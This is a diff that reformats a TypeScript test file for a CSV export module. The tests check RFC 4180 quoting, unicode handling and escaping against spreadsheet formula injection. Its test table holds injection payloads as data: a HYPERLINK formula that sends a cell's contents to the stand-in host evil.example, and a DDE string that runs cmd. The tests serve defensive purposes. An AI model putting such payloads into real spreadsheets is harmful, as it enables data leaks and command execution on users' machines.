@@ -5,7 +5,15 @@
  */
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { csvCell, csvDecimal, csvRow, FORMULA_ESCAPE, startsLikeFormula, toCsv, UTF8_BOM } from '../../src/export/csv.ts';
+import {
+  csvCell,
+  csvDecimal,
+  csvRow,
+  FORMULA_ESCAPE,
+  startsLikeFormula,
+  toCsv,
+  UTF8_BOM,
+} from '../../src/export/csv.ts';
 import { readCsv } from './hostileCsvReader.ts';
 import { revealHiddenCharacters } from '../../events/hiddenCharacters.ts';
 
@@ -23,7 +31,9 @@ describe('csvCell', () => {
 
   it('quotes a cell holding a comma, a quote, CR or LF, and doubles the quotes (RFC 4180 §2.6, §2.7)', () => {
     expect(csvCell('Essex, Southend and Thurrock')).toBe('"Essex, Southend and Thurrock"');
-    expect(csvCell('the "Troubled Families" programme')).toBe('"the ""Troubled Families"" programme"');
+    expect(csvCell('the "Troubled Families" programme')).toBe(
+      '"the ""Troubled Families"" programme"',
+    );
     expect(csvCell('first line\nsecond line')).toBe('"first line\nsecond line"');
     expect(csvCell('first line\r\nsecond line')).toBe('"first line\r\nsecond line"');
     expect(csvCell('"')).toBe('""""');
@@ -32,7 +42,10 @@ describe('csvCell', () => {
   it('keeps unicode as it is: accents, right-to-left text, emoji', () => {
     for (const text of ['Café Ñoño', 'مجلس مقاطعة إسكس', '💸 🏦', 'Ω≈ç√∫', '£250,000.00']) {
       const cell = csvCell(text);
-      expect(cell === text || cell === `"${text}"`, `${JSON.stringify(text)} → ${JSON.stringify(cell)}`).toBe(true);
+      expect(
+        cell === text || cell === `"${text}"`,
+        `${JSON.stringify(text)} → ${JSON.stringify(cell)}`,
+      ).toBe(true);
     }
   });
 
@@ -44,7 +57,11 @@ describe('csvCell', () => {
   });
 
   it.each([
-    ['=', '=HYPERLINK("http://evil.example/?"&A1,"details")', `"'=HYPERLINK(""http://evil.example/?""&A1,""details"")"`],
+    [
+      '=',
+      '=HYPERLINK("http://evil.example/?"&A1,"details")',
+      `"'=HYPERLINK(""http://evil.example/?""&A1,""details"")"`,
+    ],
     ['+', '+SUM(1,2)', `"'+SUM(1,2)"`],
     ['-', "-2+3+cmd|' /C calc'!A0", `'-2+3+cmd|' /C calc'!A0`],
     ['@', '@SUM(A1:A9)', `'@SUM(A1:A9)`],
@@ -72,7 +89,25 @@ describe('csvCell', () => {
   });
 
   it('csvDecimal accepts only plain decimal literals, so nothing a spreadsheet evaluates can pass as a number', () => {
-    for (const bad of ['-2+3', '=1', '+1', '1e3', '1,000.00', ' 1', '1 ', '', '-', '.5', '1.', '01', '--1', '0x10', 'NaN', '١٢٣', '-12.00\n']) {
+    for (const bad of [
+      '-2+3',
+      '=1',
+      '+1',
+      '1e3',
+      '1,000.00',
+      ' 1',
+      '1 ',
+      '',
+      '-',
+      '.5',
+      '1.',
+      '01',
+      '--1',
+      '0x10',
+      'NaN',
+      '١٢٣',
+      '-12.00\n',
+    ]) {
       expect(() => csvDecimal(bad), JSON.stringify(bad)).toThrow(RangeError);
     }
     // Even a hand-built decimal cell is checked when written.
@@ -92,9 +127,22 @@ describe('semicolon-separator spreadsheets', () => {
 describe('csvRow and toCsv', () => {
   it('joins cells with commas; a file is BOM, header, rows, each record ending CRLF', () => {
     expect(csvRow(['a', 'b,c', null, '=x'])).toBe(`a,"b,c",,'=x`);
-    const file = toCsv(['position', 'reason'], [['1', 'typo'], ['2', 'line one\r\nline two']]);
+    const file = toCsv(
+      ['position', 'reason'],
+      [
+        ['1', 'typo'],
+        ['2', 'line one\r\nline two'],
+      ],
+    );
     expect(file).toBe(`${UTF8_BOM}position,reason\r\n1,typo\r\n2,"line one\r\nline two"\r\n`);
-    expect(readCsv(file)).toEqual({ hasBom: true, records: [['position', 'reason'], ['1', 'typo'], ['2', 'line one\r\nline two']] });
+    expect(readCsv(file)).toEqual({
+      hasBom: true,
+      records: [
+        ['position', 'reason'],
+        ['1', 'typo'],
+        ['2', 'line one\r\nline two'],
+      ],
+    });
   });
 
   it('an empty export is the BOM and the header', () => {
@@ -108,7 +156,28 @@ describe('csvRow and toCsv', () => {
   it('property: any text reads back as itself with a quote put before each formula start (the first character, or one after a separator) and nothing else changed', () => {
     const anyText = fc.oneof(
       fc.string({ unit: 'binary', maxLength: 40 }),
-      fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\0', '"', ',', ';', "'", ' ', 'a', '1', 'é', '💸'), maxLength: 12 }),
+      fc.string({
+        unit: fc.constantFrom(
+          '=',
+          '+',
+          '-',
+          '@',
+          '\t',
+          '\r',
+          '\n',
+          '\0',
+          '"',
+          ',',
+          ';',
+          "'",
+          ' ',
+          'a',
+          '1',
+          'é',
+          '💸',
+        ),
+        maxLength: 12,
+      }),
     );
     // An independent statement of the rule, character by character, over the text as a person
     // is shown it: invisible and bidi characters revealed as <U+XXXX> (their own property is in
@@ -119,23 +188,31 @@ describe('csvRow and toCsv', () => {
           const formulaStart =
             i === 0
               ? startsLikeFormula(ch)
-              : '=+-@'.includes(ch) && ';,\t\r\n'.includes(chars[i - 1]!) && !(i === 1 && startsLikeFormula(chars[0]!));
+              : '=+-@'.includes(ch) &&
+                ';,\t\r\n'.includes(chars[i - 1]!) &&
+                !(i === 1 && startsLikeFormula(chars[0]!));
           return (formulaStart ? FORMULA_ESCAPE : '') + ch;
         })
         .join('');
     fc.assert(
-      fc.property(fc.array(fc.array(anyText, { minLength: 3, maxLength: 3 }), { maxLength: 8 }), (rows) => {
-        const file = readCsv(toCsv(['x', 'y', 'z'], rows));
-        expect(file.hasBom).toBe(true);
-        expect(file.records).toHaveLength(rows.length + 1);
-        rows.forEach((row, r) =>
-          row.forEach((text, c) => {
-            const cell = file.records[r + 1]![c]!;
-            expect(cell).toBe(expected(text));
-            expect(startsLikeFormula(cell), `cell ${JSON.stringify(cell)} still starts like a formula`).toBe(false);
-          }),
-        );
-      }),
+      fc.property(
+        fc.array(fc.array(anyText, { minLength: 3, maxLength: 3 }), { maxLength: 8 }),
+        (rows) => {
+          const file = readCsv(toCsv(['x', 'y', 'z'], rows));
+          expect(file.hasBom).toBe(true);
+          expect(file.records).toHaveLength(rows.length + 1);
+          rows.forEach((row, r) =>
+            row.forEach((text, c) => {
+              const cell = file.records[r + 1]![c]!;
+              expect(cell).toBe(expected(text));
+              expect(
+                startsLikeFormula(cell),
+                `cell ${JSON.stringify(cell)} still starts like a formula`,
+              ).toBe(false);
+            }),
+          );
+        },
+      ),
       { numRuns: 500 },
     );
   });
